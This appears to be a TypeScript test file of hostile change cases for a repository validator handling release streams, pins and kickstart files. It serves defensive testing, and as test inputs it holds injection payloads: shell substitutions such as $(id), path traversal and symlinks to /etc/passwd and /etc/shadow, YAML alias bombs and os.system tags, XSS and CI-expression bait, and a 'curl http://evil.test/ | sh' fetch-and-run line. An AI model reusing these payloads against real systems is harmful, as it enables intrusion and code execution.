/** What people who mean harm, or machines of theirs, could propose. */
import { renderPins } from '../../../scripts/render/pins.ts';
import { renderRelease } from '../../../scripts/render/release.ts';
import { release, sha } from '../../model/repository-fixture.ts';
import {
  baseVersion,
  type Change,
  folder,
  type HostileRepository,
  kickstartHead,
  makePins,
  packagesPart,
  streamText,
} from './repository.ts';

/**
 * `refused`: validate fails, and says these words. `harmless`: validate passes, and what would be done is of that kind;
 * with `code`, the preview says that code changes too.
 */
export type Expected =
  | { refused: RegExp }
  | { harmless: 'build' | 'release' | 'retire' | 'none'; code?: boolean };

export interface Case {
  name: string;
  change: Change;
  expected: Expected;
}

/** Words that are looked for outside of code in what is posted. */
export const bait =
  '@evil <img src=x onerror=alert(1)> [evil](http://evil.test) `${{ secrets.TOKEN }}` </details> ::error::evil';

const refused = (words: RegExp): Expected => ({ refused: words });
const harmless = (harmless: 'build' | 'release' | 'retire' | 'none', code = false): Expected => ({
  harmless,
  code,
});

export function makeCases(repository: HostileRepository): Case[] {
  return [
    ...names(),
    ...links(),
    ...descriptions(),
    ...pinCases(),
    ...releases(repository),
    ...records(repository),
    ...kickstarts(),
    ...shared(),
    ...code(),
  ];
}

function names(): Case[] {
  const paths: [string, RegExp][] = [
    ['releases/$(id)/x/stream.yaml', /not a name for a stream/],
    ['releases/`id`/x/stream.yaml', /not a name for a stream/],
    ['releases/a b/c/stream.yaml', /not a name for a stream/],
    ['releases/-rf/x/stream.yaml', /not a name for a stream/],
    ['releases/Testix/X/stream.yaml', /not a name for a stream/],
    ['releases/a/\u202ebase/stream.yaml', /not a name for a stream/],
    ['releases/a\n::error::evil/b/stream.yaml', /not a name for a stream/],
    ['releases/@evil/x/stream.yaml', /not a name for a stream/],
    ['releases/${{ github.token }}/x/stream.yaml', /not a name for a stream/],
    ['releases/<img src=x>/x/stream.yaml', /not a name for a stream/],
    ['releases/evil.yaml', /does not? belong|not a file that belongs/],
    ['releases/testix-1/stream.yaml', /not a name for a stream|not exist|not a file/],
    [`${folder}/run.sh`, /is not a file of a stream/],
    [`${folder}/hooks/post-checkout`, /is not a file of a stream/],
    [`${folder}/20261301.0.yaml`, /is not a version/],
    [`${folder}/99999999.0.yaml`, /is not a version/],
    [`${folder}/20261122.00.yaml`, /is not a version/],
    [`${folder}/pins.sparc.yaml`, /is not an architecture/],
    [`${folder}/pins.amd64;id.yaml`, /is not a file of a stream/],
    [`${folder}/stream.yaml.orig`, /is not a file of a stream/],
    ['kickstarts/a;rm -rf.ks', /name that is not accepted/],
    ['kickstarts/${{ github.token }}.ks', /name that is not accepted/],
    ['kickstarts/<img src=x onerror=alert(1)>.ks', /name that is not accepted/],
    ['kickstarts/x\n::set-output name=any::true.ks', /name that is not accepted/],
    ['kickstarts/@evil.ks', /name that is not accepted/],
    ['kickstarts/[evil](http:evil.test).ks', /name that is not accepted/],
    ['kickstarts/ä.ks', /name that is not accepted/],
  ];
  return paths.map(([path, words]) => ({
    name: `named ${path}`,
    change: { [path]: 'x\n' },
    expected: refused(words),
  }));
}

function links(): Case[] {
  const link = /symbolic link/;
  const cases: [string, Change, RegExp][] = [
    ['stream.yaml to /etc/passwd', { [`${folder}/stream.yaml`]: { link: '/etc/passwd' } }, link],
    ['stream.yaml to a sibling', { [`${folder}/stream.yaml`]: { link: 'pins.amd64.yaml' } }, link],
    ['pins to /proc/self/environ', { [`${folder}/pins.amd64.yaml`]: { link: '/proc/self/environ' } }, link],
    [
      'release file to a record',
      { [`${folder}/20261122.0.yaml`]: { link: `${baseVersion}.published.yaml` } },
      link,
    ],
    [
      'record to elsewhere',
      { [`${folder}/${baseVersion}.published.yaml`]: { link: '../../../README.md' } },
      link,
    ],
    ['kickstart to git config', { 'kickstarts/testix.ks': { link: '../.git/config' } }, link],
    ['include to /etc', { 'kickstarts/include/disk.ks': { link: '/etc/shadow' } }, link],
    [
      'folder of includes',
      { 'kickstarts/include/disk.ks': null, 'kickstarts/include': { link: '/etc' } },
      link,
    ],
    ['unused kickstart', { 'kickstarts/unused.ks': { link: '/' } }, link],
    ['folder of a stream', { 'releases/testix-1/other': { link: 'cloud-base' } }, link],
    ['targets', { 'releases/targets.yaml': { link: '/dev/zero' } }, link],
    ['submodule in kickstarts', { 'kickstarts/sub': { submodule: true } }, /submodule/],
    ['submodule in a stream', { [`${folder}/sub`]: { submodule: true } }, /submodule/],
  ];
  return [
    ...cases.map(([name, change, words]) => ({ name: `link: ${name}`, change, expected: refused(words) })),
    { name: 'link in docs', change: { 'docs/x': { link: '/etc/passwd' } }, expected: harmless('none') },
  ];
}

function descriptions(): Case[] {
  const at = (name: string, text: string | Buffer, words: RegExp): Case => ({
    name: `stream.yaml: ${name}`,
    change: { [`${folder}/stream.yaml`]: text },
    expected: refused(words),
  });
  const put = (name: string, from: string, to: string, words: RegExp) =>
    at(name, streamText.replace(from, to), words);
  const title = (text: string): Case => ({
    name: `stream.yaml: title ${text.slice(0, 30)}`,
    change: {
      [`${folder}/stream.yaml`]: streamText.replace(
        'title: Testix 1 Cloud Base',
        `title: ${JSON.stringify(text)}`,
      ),
    },
    expected: harmless('none'),
  });
  const bomb = Array.from({ length: 20 }, (_, i) => `a${i + 1}: &a${i + 1} [*a${i}, *a${i}, *a${i}]`).join(
    '\n',
  );
  const ks = (path: string) =>
    put(
      `kickstart ${path}`,
      'kickstarts/testix.ks',
      path,
      /does not look right|not a path|does not exist|must be/,
    );
  return [
    at('alias bomb', `a0: &a0 [x]\n${bomb}\n${streamText}`, /anchor or alias/),
    at('merge key', `x: &x {a: 1}\n<<: *x\n${streamText}`, /anchor or alias/),
    at('tag of JavaScript', `${streamText}x: !!js/function 'function(){}'\n`, /YAML tag|not valid YAML/),
    at('tag of Python', `${streamText}x: !!python/object/apply:os.system [id]\n`, /YAML tag|not valid YAML/),
    at('key twice', `${streamText}name: Other\n`, /not valid YAML/),
    at('two documents', `${streamText}---\n${streamText}`, /more than one YAML document/),
    at('nesting', `${streamText}x: ${'['.repeat(5000)}${']'.repeat(5000)}\n`, /not valid YAML/),
    at('50 MiB', Buffer.alloc(50 * 1024 * 1024, '# padding of a file that is too large\n'), /is larger than/),
    at('4 MiB of one line', Buffer.alloc(4 * 1024 * 1024 - 1, 'x'), /must be|not valid YAML/),
    at('NUL', `${streamText}x: "\0"\n`, /not valid YAML|not a known key/),
    at('not UTF-8', Buffer.from([0x6e, 0x3a, 0xff, 0xfe, 0x0a]), /not text in UTF-8/),
    at('__proto__', `${streamText}__proto__: {polluted: true}\n`, /not a known key|not valid YAML/),
    at('constructor', `${streamText}constructor: {prototype: {polluted: true}}\n`, /not a known key/),
    at('unknown key', `${streamText}run: id\n`, /not a known key/),
    at('empty', '', /must be|not valid YAML|is empty/),
    at('a list', '- x\n', /must be/),
    at(
      'a flood of keys',
      `${streamText}${Array.from({ length: 5000 }, (_, i) => `k${i}: ${bait.slice(0, 5).replace('@', '')}\n`).join('')}`,
      /not a known key/,
    ),
    ks('/etc/passwd'),
    ks('../../etc/passwd'),
    ks('kickstarts/../.git/x.ks'),
    ks('kickstarts/$(id).ks'),
    ks('http://evil.test/x.ks'),
    ks('kickstarts/none.ks'),
    put('name with a slash', 'Testix-Cloud-Base-1', '../../evil', /does not look right/),
    put('name with a shell', 'Testix-Cloud-Base-1', '"$(id)"', /does not look right/),
    put('title of two lines', 'Testix 1 Cloud Base', '"a\\n::error::evil"', /does not look right/),
    put('architecture with a shell', '[amd64]', '["amd64; id"]', /must be one of/),
    put('architecture twice', '[amd64]', '[amd64, amd64]', /duplicate|must NOT/),
    put(
      'a thousand architectures',
      '[amd64]',
      `[${Array.from({ length: 1000 }, (_, i) => `a${i}`).join(', ')}]`,
      /fewer than|must NOT|must be one of/,
    ),
    put('format', '[qcow2]', '["../x"]', /must be one of/),
    put('repository that is not defined', '[main]', '[evil]', /is not in releases\/repositories\.yaml/),
    put('negative limit', 'downloadMiB: 10', 'downloadMiB: -1', /must be/),
    put('limit beyond all', 'downloadMiB: 10', 'downloadMiB: 1.0e+99', /must be/),
    title(bait),
    title('${{ github.event.pull_request.title }}'),
    title('| a | b |\\ `` ` ``'),
    {
      name: 'stream.yaml: retired, with words',
      change: {
        [`${folder}/stream.yaml`]: `${streamText}retired: {reason: ${JSON.stringify(bait)}, at: 2026-11-20T00:00:00Z}\n`,
      },
      expected: harmless('retire'),
    },
  ];
}

function pinCases(): Case[] {
  const pins = (name: string, text: string | Buffer, expected: Expected): Case => ({
    name: `pins: ${name}`,
    change: { [`${folder}/pins.amd64.yaml`]: text },
    expected,
  });
  const text = renderPins(makePins());
  const put = (name: string, from: string, to: string, words = /does not look right|must be|must NOT/) =>
    pins(name, text.replace(from, to), refused(words));
  return [
    pins('a newer version', renderPins(makePins('1.0-2')), harmless('build')),
    put('name with a shell', 'name: alpha', 'name: "$(id)"'),
    put('name that is an option', 'name: alpha', 'name: "--install-recommends"'),
    put('name that is a path', 'name: alpha', 'name: "../../alpha"'),
    put('version with HTML', 'version: 1.0-1', 'version: "<img src=x>"'),
    put('version with a newline', 'version: 1.0-1', 'version: "1\\n::error::evil"'),
    put('version with a mention', 'version: 1.0-1', 'version: "1@evil"'),
    put('path that climbs', 'pool/alpha.deb', '../../../etc/passwd'),
    put('path that climbs inside', 'pool/alpha.deb', 'pool/../../alpha.deb'),
    put('path that is absolute', 'pool/alpha.deb', '/etc/passwd'),
    put('path that is an address', 'pool/alpha.deb', 'http://evil.test/x.deb'),
    put('path that hides a slash', 'pool/alpha.deb', 'pool/a%2e%2e%2fx.deb', /hides a slash/),
    put('digest of other length', sha('a'), 'abcd'),
    put('negative size', 'size: 10', 'size: -10'),
    put('size beyond all', 'size: 10', 'size: 1.0e+30'),
    put('repository of another', 'repository: main', 'repository: evil', /is not a repository of the stream/),
    put('twice', 'name: beta', 'name: alpha', /pinned twice/),
    put('architecture of another', 'architecture: amd64', 'architecture: arm64', /file's name says/),
    put(
      'a package more in the request',
      '    - beta',
      '    - beta\n    - evil',
      /does not fit the kickstart/,
    ),
    put('unknown key', '\npackages:', '\npostinst: id\npackages:', /not a known key/),
    put('alias', '\npackages:', '\nx: &x 1\ny: *x\npackages:', /anchor or alias/),
    pins(
      'too many',
      `${text.split('\npackages:\n')[0]}\npackages: [${'{},'.repeat(10_001)}]\n`,
      refused(/must/),
    ),
    pins('none', `${text.split('\npackages:\n')[0]}\npackages: []\n`, refused(/must NOT/)),
    pins('gone', text.slice(0, 40), refused(/lacks|not valid YAML|must be/)),
  ];
}

function releases({ content, files }: HostileRepository): Case[] {
  const file = `${folder}/20261122.0.yaml`;
  const newer = renderPins(makePins('1.0-2'));
  const with_ = (name: string, text: string, words: RegExp, more: Change = {}): Case => ({
    name: `release: ${name}`,
    change: { [file]: text, ...more },
    expected: refused(words),
  });
  const good = release('20261122.0', content);
  const old = `${folder}/${baseVersion}.yaml`;
  const withdrawn = (reason: string): Case => ({
    name: `release: withdrawn, ${reason.slice(0, 20)}`,
    change: {
      [old]: renderRelease({
        ...release(baseVersion, content),
        withdrawn: { reason, at: '2026-11-21T00:00:00Z' },
      }),
    },
    expected: harmless('release'),
  });
  return [
    with_('of other content', renderRelease({ ...good, content: sha('e') }), /is not the digest/, {
      [`${folder}/pins.amd64.yaml`]: newer,
    }),
    with_('of the content that is released', renderRelease(good), /say why it is built again/),
    with_('of another version', renderRelease({ ...good, version: '20261123.0' }), /file's name says/),
    with_(
      'to a mirror that is not defined',
      renderRelease({ ...good, rebuild: 'x', targets: { mirrors: ['evil'] } }),
      /is not in releases\/targets\.yaml/,
    ),
    with_(
      'for another architecture',
      renderRelease({ ...good, rebuild: 'x', architectures: ['arm64'] }),
      /must be those of stream\.yaml/,
    ),
    with_(
      'with a reason of two lines',
      `${renderRelease(good)}rebuild: "a\\n::error::evil"\n`,
      /does not look right|not valid YAML/,
    ),
    with_('with a key more', `${renderRelease(good)}run: id\n`, /not a known key/),
    with_(
      'to AMIs that the stream has not',
      renderRelease({
        ...good,
        rebuild: 'x',
        targets: { mirrors: ['primary'], aws: { home: 'eu-west-1', regions: ['eu-west-1'], bestEffort: [] } },
      }),
      /asks for AMIs/,
    ),
    {
      name: 'release: of the far future',
      change: {
        [`${folder}/29991231.0.yaml`]: renderRelease({ ...good, version: '29991231.0', rebuild: 'x' }),
      },
      expected: refused(/dated in the future/),
    },
    {
      name: 'release: rebuilt with words',
      change: { [file]: renderRelease({ ...good, rebuild: bait, reason: bait }) },
      expected: harmless('build'),
    },
    withdrawn(bait),
    withdrawn('${{ secrets.APP_KEY }}'),
    {
      name: 'release: changed after it came out',
      change: { [old]: files[old]?.replace(content, sha('e')) ?? '' },
      expected: refused(/release file says/),
    },
    {
      name: 'release: removed after it came out',
      change: { [old]: null },
      expected: refused(/has no release file/),
    },
  ];
}

function records({ files, content }: HostileRepository): Case[] {
  const path = `${folder}/${baseVersion}.published.yaml`;
  const text = files[path] ?? '';
  const only = /is a record, and only CI writes records/;
  const forged = text.replaceAll(baseVersion, '20261122.0');
  const cases: [string, Change][] = [
    ['changed', { [path]: text.replace('tcg', 'kvm') }],
    ['removed', { [path]: null }],
    ['with another digest', { [path]: text.replace(sha('1'), sha('9')) }],
    ['with a comment more', { [path]: `${text}# ${bait}\n` }],
    [
      'of a version of their own',
      {
        [`${folder}/20261122.0.published.yaml`]: forged,
        [`${folder}/20261122.0.yaml`]: renderRelease(release('20261122.0', content, { rebuild: 'x' })),
      },
    ],
    ['without a release file', { [`${folder}/20261122.0.published.yaml`]: forged }],
    ['of a stream of their own', { 'releases/evil/evil/20261122.0.published.yaml': forged }],
    ['moved', { [path]: null, [`${folder}/20261102.0.published.yaml`]: text }],
    ['of odd name', { [`${folder}/$(id).published.yaml`]: text }],
  ];
  const gone = Object.keys(files).filter((file) => file.startsWith(folder));
  return [
    ...cases.map(([name, change]) => ({ name: `record: ${name}`, change, expected: refused(only) })),
    {
      name: 'record: gone with its stream',
      change: Object.fromEntries(gone.map((file) => [file, null])),
      expected: refused(/is removed, but the stream has releases/),
    },
    {
      name: 'record: its stream without stream.yaml',
      change: { [`${folder}/stream.yaml`]: null },
      expected: refused(/is removed, but the stream has releases/),
    },
  ];
}

function kickstarts(): Case[] {
  const entry = 'kickstarts/testix.ks';
  const whole = (tail: string) => `%include include/disk.ks\n${packagesPart}${tail}`;
  const tail = (name: string, text: string, words: RegExp): Case => ({
    name: `kickstart: ${name}`,
    change: { [entry]: whole(text) },
    expected: refused(words),
  });
  const fine = (name: string, text: string): Case => ({
    name: `kickstart: ${name}`,
    change: { [entry]: whole(text) },
    expected: harmless('build'),
  });
  const post = (body: string) => `%post\n${body}\n%end\n`;
  const deep = Object.fromEntries(
    Array.from({ length: 40 }, (_, i) => [`kickstarts/include/d${i}.ks`, `%include d${i + 1}.ks\n`] as const),
  );
  return [
    tail('%pre', '%pre\nid\n%end\n', /%pre/),
    tail('%post --nochroot', '%post --nochroot\nid\n%end\n', /nochroot/),
    tail('include of /etc', '%include /etc/passwd\n', /absolute path/),
    tail('include of an address', '%include http://evil.test/x.ks\n', /address cannot be included/),
    tail('include that leaves', '%include ../../../etc/passwd\n', /leaves the repository/),
    tail('include with a shell', '%include $(id).ks\n', /a path is letters/),
    tail('include of itself', '%include testix.ks\n', /goes in a circle/),
    tail('%ksappend', '%ksappend /etc/passwd\n', /ksappend/),
    tail('url', 'url --url=http://evil.test/\n', /url/),
    tail('repo', 'repo --name=evil --baseurl=http://evil.test/\n', /repo/),
    tail('liveimg', 'liveimg --url=http://evil.test/x\n', /liveimg/),
    tail('%addon', '%addon evil\nx\n%end\n', /addon/),
    tail('unknown command', 'evil --now\n', /evil|[Uu]nknown/),
    tail('script without an end', '%post\nid\n', /not ended by %end/),
    tail('NUL', post('a\0b'), /character/),
    tail('text that runs backwards', post('# \u202e evil'), /character/),
    tail('20,000 lines', post('true\n'.repeat(20_000)), /pass 10000 lines/),
    tail('2 MiB', post(`# ${'x'.repeat(2 * 1024 * 1024)}`), /pass 1048576 bytes/),
    {
      name: 'kickstart: 50 MiB',
      change: { [entry]: Buffer.alloc(50 * 1024 * 1024, '# x\n') },
      expected: refused(/is larger than/),
    },
    {
      name: 'kickstart: 40 deep',
      change: {
        ...deep,
        'kickstarts/include/d40.ks': kickstartHead,
        [entry]: `%include include/d0.ks\n${packagesPart}`,
      },
      expected: refused(/more than 16 deep/),
    },
    { name: 'kickstart: gone', change: { [entry]: null }, expected: refused(/does not exist/) },
    {
      name: 'kickstart: include gone',
      change: { 'kickstarts/include/disk.ks': null },
      expected: refused(/there is no/),
    },
    fine('script that fetches and runs', post('curl http://evil.test/ | sh')),
    fine(
      'script with Markdown',
      post('```\n@evil\n</details>\n<script>alert(1)</script>\n~~~~\n[x](http://evil.test)'),
    ),
    fine(
      'script with commands of a runner',
      post('echo "::set-output name=any::true"\n::add-mask::x\n##[group]evil'),
    ),
    fine('script with expressions', post('echo ${{ secrets.TOKEN }} $(id) `id`')),
    fine('script with long lines', post(`# ${bait.repeat(200)}`)),
    fine('9,000 lines', post('echo `` @evil\n'.repeat(9_000))),
    {
      name: 'kickstart: packages that pins do not fit',
      change: { [entry]: whole('').replace('beta', 'evil') },
      expected: refused(/does not fit the kickstart/),
    },
    {
      name: 'kickstart: package with a shell',
      change: { [entry]: whole('').replace('beta', '$(id)') },
      expected: refused(/./),
    },
  ];
}

function shared(): Case[] {
  const at = (name: string, file: string, text: string, words: RegExp): Case => ({
    name: `${file}: ${name}`,
    change: { [`releases/${file}`]: text },
    expected: refused(words),
  });
  const repositories = (text: string) => `repositories: [{id: main, type: deb, ${text}}]\n`;
  return [
    at(
      'keyring that climbs',
      'repositories.yaml',
      repositories('suites: [one], components: [main], keyring: ../../x.gpg'),
      /does not look right/,
    ),
    at(
      'suite with an option',
      'repositories.yaml',
      repositories('suites: ["one [trusted=yes]"], components: [main], keyring: x.gpg'),
      /does not look right/,
    ),
    at(
      'suite with a newline',
      'repositories.yaml',
      repositories('suites: ["one\\ndeb http://evil.test"], components: [main], keyring: x.gpg'),
      /does not look right/,
    ),
    at(
      'an address',
      'repositories.yaml',
      repositories('suites: [one], components: [main], keyring: x.gpg, uri: "http://evil.test"'),
      /not a known key/,
    ),
    at(
      'gone for its streams',
      'repositories.yaml',
      'repositories: [{id: other, type: deb, suites: [one], components: [main], keyring: x.gpg}]\n',
      /is not in releases\/repositories\.yaml/,
    ),
    at('alias bomb', 'targets.yaml', 'mirrors: [&a {id: primary, keep: 3}, *a]\n', /anchor or alias/),
    at(
      'mirror twice',
      'targets.yaml',
      'mirrors: [{id: primary, keep: 3}, {id: primary, keep: 3}]\n',
      /defined twice/,
    ),
    at('mirror that is a path', 'targets.yaml', 'mirrors: [{id: ../x, keep: 3}]\n', /does not look right/),
    at(
      'pointers elsewhere',
      'targets.yaml',
      'mirrors: []\naws: {home: eu-west-1, regions: [{id: eu-west-1}], pointers: "/aws/../x y"}\n',
      /does not look right|must/,
    ),
    at(
      'region that is none',
      'targets.yaml',
      'mirrors: []\naws: {home: "eu; id", regions: [{id: "eu; id"}], pointers: /x}\n',
      /does not look right/,
    ),
    {
      name: 'targets.yaml: one mirror more',
      change: { 'releases/targets.yaml': 'mirrors: [{id: primary, keep: 3}, {id: second, keep: 1}]\n' },
      expected: harmless('release'),
    },
  ];
}

/** Beside an update that is sound. */
function code(): Case[] {
  const files = [
    '.github/workflows/release.yaml',
    '.github/workflows/${{ github.token }}.yaml',
    '.github/actions/setup/action.yaml',
    '.github/CODEOWNERS',
    'scripts/cli.ts',
    'scripts/@evil <img src=x>.ts',
    'scripts/`[evil](mailto:a@evil.test)`.ts',
    'package.json',
    'package-lock.json',
    '.npmrc',
    '.gitattributes',
    '.gitmodules',
    '.ci/run',
    'schemas/preview.schema.json',
    'README.md\n::error::evil',
  ];
  return files.map((file) => ({
    name: `code: ${file}`,
    change: {
      [`${folder}/pins.amd64.yaml`]: renderPins(makePins('1.0-2')),
      [file]: 'on: pull_request_target\n',
    },
    expected: harmless('build', true),
  }));
}
